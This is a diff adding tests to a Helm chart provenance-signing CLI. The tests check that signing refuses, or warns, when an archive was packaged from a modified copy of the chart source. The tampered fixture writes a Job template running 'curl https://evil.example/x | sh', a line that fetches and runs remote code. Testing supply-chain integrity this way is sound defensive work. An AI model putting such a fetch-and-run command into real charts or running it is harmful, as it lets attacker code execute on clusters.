@@ -1,5 +1,5 @@
 // The helm-prov CLI as a user runs it: a real process, real files, compared with the real `helm verify`.
-import { test } from 'node:test';
+import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
@@ -118,4 +118,61 @@ test('verify-file checks a detached signature made by the real gpg against a KEY
     gpg.dispose();
     fs.rmSync(dir, { recursive: true, force: true });
   }
+});
+
+describe('sign <chart-dir> signs the archive of the source as it is now', () => {
+  const ed25519 = path.join(signedKeyrings, '..', 'keys', 'ed25519.sec.gpg');
+  const ed25519Fpr = fs.readFileSync(path.join(signedKeyrings, '..', 'keys', 'ed25519.fpr'), 'utf8').trim();
+  const signWith = (target: string, ...more: string[]) => helmProv(['sign', target, '--key', ed25519Fpr, '--keyring', ed25519, ...more]);
+
+  /** The issue's repository: `charts/prebuilt/` (clean source) and `charts/prebuilt-0.1.0.tgz` from `shippedFrom`. */
+  function repository(shippedFrom: 'helm-package-of-the-source' | 'a-modified-copy'): { charts: string; chartDir: string; archive: string } {
+    const charts = path.join(tempDir('cli-sign-source-'), 'charts');
+    const chartDir = path.join(charts, 'prebuilt');
+    fs.mkdirSync(path.join(chartDir, 'templates'), { recursive: true });
+    fs.writeFileSync(path.join(chartDir, 'Chart.yaml'), 'apiVersion: v2\nname: prebuilt\nversion: 0.1.0\ndescription: shipped with its archive\n');
+    fs.writeFileSync(path.join(chartDir, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["echo", "hello"]\n');
+    let source = chartDir;
+    if (shippedFrom === 'a-modified-copy') {
+      source = path.join(tempDir('cli-sign-copy-'), 'prebuilt');
+      fs.cpSync(chartDir, source, { recursive: true });
+      fs.writeFileSync(path.join(source, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n');
+    }
+    const packaged = helm(['package', source, '-d', charts]);
+    assert.equal(packaged.status, 0, packaged.stderr);
+    return { charts, chartDir, archive: path.join(charts, 'prebuilt-0.1.0.tgz') };
+  }
+
+  test('an archive packaged from a modified copy: exit 1, archive-differs-from-source, the path, no .prov', () => {
+    const { charts, chartDir, archive } = repository('a-modified-copy');
+    const before = fs.readFileSync(archive);
+    const r = signWith(chartDir, '-d', charts);
+    assert.equal(r.status, 1, r.stdout + r.stderr);
+    assert.match(r.stderr, /\[archive-differs-from-source\]/);
+    assert.match(r.stderr, /1 file differs: templates\/job\.yaml \(differs\)/);
+    assert.match(r.stderr, /helm-prov package .*prebuilt -d .*charts --sign/);
+    assert.ok(!fs.existsSync(`${archive}.prov`), 'no .prov written');
+    assert.ok(fs.readFileSync(archive).equals(before), 'the archive is left as it is');
+  });
+
+  test('an archive the real helm package made from the source: signed as it is, and helm verify accepts it', () => {
+    const { charts, chartDir, archive } = repository('helm-package-of-the-source');
+    const before = fs.readFileSync(archive);
+    const r = signWith(chartDir, '-d', charts);
+    assert.equal(r.status, 0, r.stdout + r.stderr);
+    assert.match(r.stdout, /prebuilt-0\.1\.0\.tgz is what packaging .*prebuilt writes now \(compared file by file\)/);
+    assert.doesNotMatch(r.stdout, /Successfully packaged/);
+    assert.ok(fs.readFileSync(archive).equals(before), 'helm’s archive was signed, not replaced');
+    const verified = helm(['verify', '--keyring', path.join(signedKeyrings, '..', 'keys', 'ed25519.pub.gpg'), archive]);
+    assert.equal(verified.status, 0, verified.stderr);
+  });
+
+  test('the archive named explicitly is still signed, and the output says it was not built from the source here', () => {
+    const { archive } = repository('a-modified-copy');
+    const r = signWith(archive);
+    assert.equal(r.status, 0, r.stdout + r.stderr);
+    assert.match(r.stdout, new RegExp(`^Signed ${archive.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} → `, 'm'));
+    assert.match(r.stdout, /prebuilt-0\.1\.0\.tgz was NOT built from the chart source in .*prebuilt as it is now — 1 file differs: templates\/job\.yaml/);
+    assert.ok(fs.existsSync(`${archive}.prov`));
+  });
 });
